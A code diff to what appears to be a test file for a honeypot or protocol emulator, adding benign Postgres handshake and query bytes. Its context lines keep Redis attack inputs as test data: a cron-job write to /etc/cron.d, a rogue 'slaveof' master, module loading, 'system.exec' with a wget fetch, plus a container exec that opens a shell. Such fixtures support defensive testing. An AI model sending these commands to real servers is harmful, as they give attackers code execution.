@@ -19,7 +19,7 @@ from eudaemon.wire import Purse
 from eudaemon.world.host import Host
 from eudaemon.world.outside import Downloaded
 from eudaemon.world.seed import Seed
-from protocols import mysql_client, ssh_client
+from protocols import mysql_client, postgres_client, ssh_client
 from protocols.adb_client import CONNECT, frame
 
 HOST = Host.from_seed(Seed(b"test"))
@@ -58,6 +58,7 @@ OPENINGS: dict[str, tuple[bytes, ...]] = {
         bytes(8) + b"kv", b"vv",
     ),
     "mysql": tuple(mysql_client.opening(Table(load("mysql")(visit(host=HOST))).open())),
+    "postgres": tuple(postgres_client.opening()),
     "redis": (
         b"*2\r\n", b"$3\r\nGET\r\n$5\r\n", b"abcde\r\n", b"config set dir /etc/cron.d\r\n", b"set x '* * * * * id'\r\n",
         b"slaveof 192.0.2.9 1\r\nmodule load x\r\n", b"*2\r\n$11\r\nsystem.exec\r\n$15\r\nwget http://a/b\r\n",
@@ -80,7 +81,7 @@ WORDS = [
     b"GET /exec/%s?command=sh&tty=1 HTTP/1.1\r\nHost: a\r\nSec-WebSocket-Key: a\r\n\r\n" % PLACE,
     b"\x82\x85\0\0\0\0\0id\r\n", b"set a 0 0 5\r\n", b"stats\r\n", b"\0\1\0\0\0\1\0\0stats\r\n",
     b"\x80\x0b" + bytes(22), b"\0\1\0\0\0\1\0\0set a 0 0 1\r\n1\r\n",
-    b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
+    b"\0\0\0\x08\x04\xd2\x16\x2f", b"Q\0\0\0\x0dselect 1\0", b"\x07\0\0\0\x03SELECT", b"\x09\0\0\0\x03select 1",
 ]  # fmt: skip
 
 FRONT = "front"  # no room of its own: telnet and HTTP on one port
